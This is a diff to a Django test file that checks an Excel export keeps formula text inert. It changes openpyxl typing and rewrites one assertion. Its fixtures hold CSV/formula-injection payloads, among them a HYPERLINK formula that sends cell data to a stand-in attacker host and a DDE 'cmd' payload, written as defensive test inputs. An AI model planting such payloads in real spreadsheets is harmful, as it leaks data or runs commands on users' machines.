@@ -26,7 +26,7 @@ from django.test import Client
 from django.urls import reverse
 from django_scopes import scope, scopes_disabled
 from openpyxl import load_workbook
-from openpyxl.cell.cell import Cell
+from openpyxl.cell.cell import Cell, MergedCell
 
 from kompas.accounts import audit
 from kompas.accounts.models import Organisation, User
@@ -50,7 +50,7 @@ ATTACK = '=HYPERLINK("http://aanvaller.example/?d="&A1;"Klik hier")'
 LEADERS = [ATTACK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1"]
 
 
-def _xlsx_cells(body: bytes) -> list[Cell]:
+def _xlsx_cells(body: bytes) -> list[Cell | MergedCell]:
     book = load_workbook(io.BytesIO(body))
     return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
 
@@ -92,8 +92,9 @@ def test_workbook_keeps_formula_text_as_text_and_numbers_as_numbers() -> None:
     table = xlsx.Table("Blad", ("naam", "waarde"), [(text, -3) for text in LEADERS])
     body = xlsx.workbook([table], [xlsx.Source(ATTACK, "CC-BY 4.0", None, "2024")])
     _assert_no_formulas(body, LEADERS)
-    numbers = [cell for cell in _xlsx_cells(body) if cell.column_letter == "B" and cell.row > 1]
-    assert {(cell.value, cell.data_type) for cell in numbers[: len(LEADERS)]} == {(-3, "n")}
+    sheet = load_workbook(io.BytesIO(body))["Blad"]
+    numbers = {(cell.value, cell.data_type) for (cell,) in sheet.iter_rows(min_row=2, min_col=2, max_col=2)}
+    assert numbers == {(-3, "n")}
 
 
 @pytest.fixture
